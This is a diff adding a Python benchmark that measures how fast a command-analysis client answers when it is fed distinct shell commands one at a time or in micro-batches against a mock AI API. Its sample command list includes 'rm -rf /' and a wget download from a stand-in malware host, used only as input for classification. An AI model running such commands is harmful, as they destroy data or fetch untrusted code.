@@ -0,0 +1,49 @@
+#!/usr/bin/env python3
+"""
+bench_analyzer.py
+
+Throughput of utils.analyze_event against a running mock_ai_api.py, with
+per-command requests versus micro-batched /analyze_batch requests. The mock
+sleeps 0.12 s per request, so batching should multiply throughput roughly by
+the batch size reached under load. Every command is distinct (also after
+utils.normalize_payload) and each mode starts from an empty, memory-only
+verdict cache, so the verdict cache never answers for the analyzer.
+
+Usage:
+    python mock_ai_api.py          # in another window
+    python bench_analyzer.py --commands 2000 --concurrency 64
+"""
+import argparse, time
+from concurrent.futures import ThreadPoolExecutor
+import utils
+
+COMMANDS = ["ls -la", "sudo apt update", "rm -rf /", "wget http://malware.example/x.sh", "uname -a"]
+
+def run(n_commands, concurrency, batching):
+    utils.BATCHING = batching
+    utils.VERDICT_CACHE_FILE = None
+    utils._verdicts = None            # fresh cache per mode
+    utils._breaker.record_success()
+    # "#b1f"-style words: no standalone number for MASK_NUMBERS to fold away
+    tag = "b" if batching else "s"
+    cmds = [COMMANDS[i % len(COMMANDS)] + f" #{tag}{i:x}" for i in range(n_commands)]
+    t0 = time.perf_counter()
+    with ThreadPoolExecutor(max_workers=concurrency) as pool:
+        verdicts = list(pool.map(utils.analyze_event, cmds))
+    elapsed = time.perf_counter() - t0
+    remote = sum(1 for v in verdicts if str(v.get("note", "")).startswith("mocked"))
+    return elapsed, remote
+
+def main(n_commands, concurrency):
+    for batching in (False, True):
+        elapsed, remote = run(n_commands, concurrency, batching)
+        mode = "batched" if batching else "single"
+        print(f"{mode:>8}: {n_commands} commands in {elapsed:.2f}s -> {n_commands / elapsed:,.0f} commands/sec "
+              f"({remote} answered by the analyzer, {n_commands - remote} by the local fallback)")
+
+if __name__ == "__main__":
+    parser = argparse.ArgumentParser(description="Benchmark analyzer client throughput")
+    parser.add_argument("--commands", type=int, default=2000, help="commands to analyze per mode")
+    parser.add_argument("--concurrency", type=int, default=64, help="concurrent callers")
+    args = parser.parse_args()
+    main(args.commands, args.concurrency)